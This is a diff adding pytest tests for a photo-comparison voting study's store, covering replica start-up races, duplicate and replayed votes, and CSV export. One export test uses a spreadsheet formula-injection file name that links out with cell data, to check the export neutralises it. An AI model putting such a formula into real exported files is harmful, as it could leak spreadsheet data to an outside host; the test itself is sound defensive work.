@@ -7,6 +7,8 @@ analysis."""
 from __future__ import annotations
 
 import collections
+import csv
+import io
 import inspect
 import json
 import multiprocessing
@@ -939,6 +941,57 @@ def test_an_unreachable_database_at_start_up_is_named_in_one_line():
         VoteStore("postgresql://study:secret@127.0.0.1:1/votes", retry_seconds=0.3)
 
 
+@pytest.mark.parametrize("backend", ["sqlite", "postgresql"])
+def test_replicas_starting_together_on_a_new_database_all_open_it(backend, request, tmp_path):
+    """Three stores at once on an empty database (README's replicas' first start): on PostgreSQL
+    the losers of the race to CREATE the tables failed ("not a usable study database")."""
+    for round_ in range(3):  # a race: three rounds, a fresh database each
+        url = (f"sqlite:///{tmp_path / f'{round_}.sqlite'}" if backend == "sqlite"
+               else request.getfixturevalue("postgres").new_database())
+        start, opened, failed = threading.Barrier(3), [], []
+
+        def replica():
+            start.wait()
+            try:
+                opened.append(VoteStore(url, retry_seconds=5))
+            except InputError as exc:
+                failed.append(str(exc))
+
+        threads = [threading.Thread(target=replica) for _ in range(3)]
+        for t in threads:
+            t.start()
+        for t in threads:
+            t.join()
+        assert not failed and len(opened) == 3, failed
+        participant = opened[0].new_participant(IMAGES, PAIRS)
+        assert all(store.known(participant) for store in opened)
+
+
+def test_two_sessions_racing_on_one_trial_count_a_replay(study_db):
+    """Two replicas store the same trial from two tabs at once: one vote is kept, and the other is
+    counted as replayed (another session), as when it comes a moment later; it was "duplicate",
+    which the admin view describes as the same browser session."""
+    one, two = VoteStore(study_db), VoteStore(study_db)
+    kept = collections.Counter()
+    for _ in range(8):
+        participant = one.new_participant(IMAGES, PAIRS)
+        start, results = threading.Barrier(2), []
+
+        def vote(store, session):
+            start.wait()
+            results.append(store.vote(participant, 0, "left", 5, session).status)
+
+        threads = [threading.Thread(target=vote, args=args) for args in ((one, "tab-one"), (two, "tab-two"))]
+        for t in threads:
+            t.start()
+        for t in threads:
+            t.join()
+        kept.update(results)
+    two.refusals()  # each replica writes its own counts
+    counts = one.refusals()
+    assert kept == {"stored": 8, "replayed": 8} and counts["replayed"] == 8 and counts["duplicate"] == 0, (kept, counts)
+
+
 def test_a_vote_waits_for_a_restarting_database_and_is_kept(postgres):
     url = postgres.new_database()
     store = VoteStore(url, retry_seconds=30)
@@ -1018,6 +1071,18 @@ def test_study_events_deal_vote_and_refuse(tmp_path):
     assert ctx.study.store.refusals() == {"forged": 1, "out-of-order": 1, "duplicate": 0, "replayed": 1,
                                           "unknown-id": 1, "admin-token": 0, "rate-limited": 0,
                                           "too-many-ids": 0}
+
+
+def test_a_second_click_on_the_last_photo_is_a_duplicate(tmp_path):
+    """The answer to the last vote lost (or a double submit): the click again is the duplicate it
+    is, and the participant reads "Thank you", not "Press Start" (which begins a new participant)."""
+    ctx = study_context(tmp_path)
+    pid, state, *_, shown, _, _ = study_tab.start(ctx, None, Request())
+    for _ in range(3):
+        last, (state, *_, shown, _, _) = shown, study_tab.vote(ctx, "left", state, shown, Request())
+    again = study_tab.vote(ctx, "left", state, last, Request())
+    assert "Thank you" in again[3] and again[0]["participant"] == pid and len(ctx.study.store.rows()) == 3
+    assert ctx.study.store.refusals()["duplicate"] == 1 and ctx.study.store.refusals()["out-of-order"] == 0
 
 
 def test_start_after_a_finished_sequence_begins_a_new_participant(tmp_path):
@@ -1190,14 +1255,28 @@ def test_bradley_terry_recovers_strengths_and_handles_a_clean_sweep():
     assert np.allclose(ax.lines[0].get_xdata(), [s.score for s in scores])
 
 
-def test_csv_export_holds_every_vote(tmp_path):
-    store = VoteStore(f"sqlite:///{tmp_path / 'v.sqlite'}")
-    participant = store.new_participant(["a.png", "b.png", "c.png"], [("smfd", "gfpgan")])
+def test_csv_export_holds_every_vote(study_db):
+    """Times in UTC with their zone on both backends (SQLite gave them without one, PostgreSQL in
+    its session's zone); a photo name a spreadsheet would run as a formula is quoted."""
+    import datetime as dt
+
+    store = VoteStore(study_db)
+    formula = '=HYPERLINK("http://example.org/?"&A2,"open").png'
+    participant = store.new_participant(["a.png", "b.png", formula], [("smfd", "gfpgan")])
+    before = dt.datetime.now(dt.timezone.utc)
     for t in range(3):
         store.vote(participant, t, "right", 1234)
-    lines = study_stats.csv_text(store.rows()).splitlines()
-    assert lines[0] == "id,participant,trial,image,left,right,chosen,side,response_ms,created_at,instance"
-    assert len(lines) == 4 and all(",right,1234," in line and participant in line for line in lines[1:])
+    rows = list(csv.DictReader(io.StringIO(study_stats.csv_text(store.rows()))))
+    assert list(rows[0]) == ["id", "participant", "trial", "image", "left", "right", "chosen", "side", "response_ms",
+                             "created_at", "instance"]
+    assert len(rows) == 3 and all(r["side"] == "right" and r["response_ms"] == "1234" and r["participant"] == participant
+                                  for r in rows)
+    assert {r["image"] for r in rows} == {"a.png", "b.png", "'" + formula}
+    for r in rows:
+        when = dt.datetime.fromisoformat(r["created_at"])
+        assert when.utcoffset() == dt.timedelta(0) and abs((when - before).total_seconds()) < 30
+    berlin = dt.datetime(2026, 12, 7, 16, 0, tzinfo=dt.timezone(dt.timedelta(hours=1)))  # PostgreSQL in another zone
+    assert study_stats._cell(berlin) == "2026-12-07T15:00:00+00:00"
 
 
 def test_demo_options_are_checked_before_the_networks_load(monkeypatch, tmp_path):
